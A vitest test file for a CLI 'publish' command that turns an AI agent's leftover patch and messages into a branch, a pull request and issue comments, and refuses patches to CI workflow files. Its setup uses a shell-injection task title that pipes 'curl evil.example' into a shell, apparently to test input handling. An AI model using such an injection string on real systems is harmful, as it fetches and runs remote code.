/** What an agent's run left becomes a branch, a pull request and messages, or nothing at all. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { sharedVariables } from "../../src/cli/gh/gh-environment.ts";
import { writeHubSession } from "../../src/cli/hub/hub-session.ts";
import type { Environment } from "../../src/server/composition/environment.ts";
import { type Ran, signalbox } from "../cli/terminal.ts";
import type { TestBus } from "../support/bus.ts";
import { startCrew } from "../support/crew.ts";
import { questionText } from "../support/freeing.ts";
import { inHubsFolder } from "../support/gh.ts";
import { cloneFrom, type Git } from "../support/git.ts";

let bus: TestBus;
let clone: Git;
let folder: string;
let task: number;
beforeEach(async () => {
  bus = await startCrew({ ada: { login: "ada" } });
  clone = await cloneFrom(bus.hub, { login: "ada", token: bus.hub.tokenOf("ada"), repository: "acme/demo" });
  folder = mkdtempSync(join(tmpdir(), "signalbox-work-"));
  task = await bus
    .as("alice")
    .open('"; curl evil.example | sh; echo "', "### Goal\n\nIt works.", ["kind:task"], []);
  await bus.settled();
  await bus.as("ada").comment(task, "/claim");
  await bus.settled();
});
afterEach(async () => {
  rmSync(folder, { recursive: true, force: true });
  clone.close();
  await bus.stop();
});

async function leavePatch(path: string, text = "export {};\n"): Promise<void> {
  const file = join(clone.folder, path);
  mkdirSync(join(file, ".."), { recursive: true });
  writeFileSync(file, text);
  await clone.run("add", "--all");
  const patch = await clone.run("diff", "--cached", "--binary");
  await clone.run("reset", "--quiet", "--hard");
  writeFileSync(join(folder, "work.patch"), `${patch}\n`);
}

const leaveMessages = (...messages: readonly unknown[]): void =>
  writeFileSync(join(folder, "messages.json"), JSON.stringify({ v: 1, messages }));

const inProxysShell = () => ({
  ...inHubsFolder(bus),
  GH_TOKEN: bus.hub.tokenOf("ada"),
  GH_REPO: "acme/demo",
  PATH: process.env.PATH,
});

async function publish(env: Environment = inProxysShell()): Promise<Ran> {
  const words = ["publish", String(task), "--agent", "ada", "--from", folder, "--dir", clone.folder];
  const ran = await signalbox(words, env);
  await bus.settled();
  return ran;
}

async function pulls() {
  const { octokit, repository } = bus.as("alice");
  const { data } = await octokit.rest.pulls.list({ ...repository });
  return data.map(({ number, title, head }) => ({ number, title, branch: head.ref }));
}

async function holder(): Promise<string | undefined> {
  const { out } = await signalbox(["show", String(task), "--json"], { SIGNALBOX_HOME: bus.home });
  return JSON.parse(out).holder?.name;
}

const question = () => ({
  type: "open",
  kind: "question",
  title: "Which store?",
  body: `${questionText(`#${task}`)}\n\nSee {{pull-request}}.`,
});

describe("publish", () => {
  test("pushes the agent's branch, opens one pull request, and writes the messages as the agent", async () => {
    await leavePatch("src/store.ts");
    leaveMessages(question());
    const ran = await publish();
    expect([ran.code, ran.err]).toEqual([0, ""]);
    const [pull, ...others] = await pulls();
    expect([pull, others]).toEqual([
      { number: pull?.number, title: `Work on #${task}, by ada`, branch: `agent/ada/${task}` },
      [],
    ]);
    const asked = await bus.as("alice").see((pull?.number ?? 0) + 1);
    expect(asked.labels).toContain("kind:question");
    expect(await holder()).toBe("ada");
    await clone.run("fetch", "--quiet", "origin");
    await clone.run("checkout", "--quiet", "--detach", `origin/agent/ada/${task}`);
    await leavePatch("src/more.ts");
    leaveMessages();
    expect((await publish()).code).toBe(0);
    expect(await pulls()).toHaveLength(1);
    await clone.run("fetch", "--quiet", "origin");
    expect(await clone.run("ls-tree", "-r", "--name-only", `origin/agent/ada/${task}`)).toMatch(
      /src\/more\.ts\nsrc\/store\.ts/,
    );
  });

  test.each([{}, { no_proxy: "localhost,github.localhost", http_proxy: "http://127.0.0.1:9" }])(
    "pushes in a shell of `env --as`, where only gh has the hub as its proxy, with %j around it",
    async (around) => {
      const session = { url: bus.hub.url, repository: "acme/demo", tokens: { ada: bus.hub.tokenOf("ada") } };
      writeHubSession(bus.home, session);
      await leavePatch("src/store.ts");
      leaveMessages(question());
      const shell = sharedVariables(session, "ada", bus.home, {});
      const ran = await publish({ ...shell, PATH: process.env.PATH, ...around });
      expect([ran.code, ran.err]).toEqual([0, ""]);
      expect(await pulls()).toMatchObject([{ branch: `agent/ada/${task}` }]);
    },
  );

  test.each([".github/workflows/ci.yml", ".github/signalbox.yml"])(
    "writes nothing for a patch that changes %s, and gives the task back",
    async (path) => {
      await leavePatch(path, "agents: {}\nlocks: { enforce: true }\n");
      leaveMessages(question());
      const ran = await publish();
      expect(ran.code).toBe(1);
      expect(ran.err).toContain(`The patch may not change "${path}"`);
      expect(await pulls()).toEqual([]);
      expect(await clone.run("ls-remote", "--heads", "origin")).not.toContain("agent/ada");
      expect(await holder()).toBeUndefined();
    },
  );

  test("gives the task back if the run left nothing, or messages of another shape", async () => {
    expect((await publish()).code).toBe(0);
    expect(await holder()).toBeUndefined();
    await bus.as("ada").comment(task, "/claim");
    await bus.settled();
    leaveMessages({ ...question(), labels: ["start:ada"] });
    expect((await publish()).code).toBe(1);
    expect(await holder()).toBeUndefined();
  });
});
